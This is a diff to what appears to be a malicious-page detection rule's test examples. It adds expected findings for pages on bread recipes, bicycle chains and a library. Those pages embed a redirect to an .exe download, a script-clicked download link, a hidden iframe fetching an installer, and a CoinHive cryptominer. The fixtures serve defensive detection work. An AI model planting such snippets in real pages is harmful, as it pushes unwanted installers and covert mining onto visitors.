@@ -130,10 +130,12 @@ export default rule({
   examples: () => ({
     hit: [
       examplePage('a program at load', {
+        found: { says: ['file_fetched'], quotes: ['window.location.href ='] },
         title: 'How to bake rye bread',
         body: `${paragraphs(...BREAD)}<script>window.onload = function () { window.location.href = 'https://files-fast.net/setup_player.exe'; };</script>`,
       }),
       examplePage('a link that a script clicks', {
+        found: { says: ['script_clicks_file'], quotes: ['a.click()'] },
         title: 'Chleb żytni',
         lang: 'pl',
         body: `${paragraphs(...CHLEB)}<script>
@@ -144,10 +146,12 @@ export default rule({
           }, 800);</script>`,
       }),
       examplePage('a frame that holds an installer', {
+        found: { says: ['file_fetched'], quotes: ['https://cdn-update.net/flash/installer.msi'] },
         title: 'Skipping chains',
         body: `${paragraphs(...BICYCLE)}<iframe src="https://cdn-update.net/flash/installer.msi" style="display:none"></iframe>`,
       }),
       examplePage('a miner', {
+        found: { says: ['mines'], quotes: ['https://coinhive.com/lib/coinhive.min.js', 'new CoinHive.'] },
         title: 'Library stays open',
         body: `${paragraphs(...LIBRARY)}<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner = new CoinHive.Anonymous('key'); miner.start();</script>`,
       }),
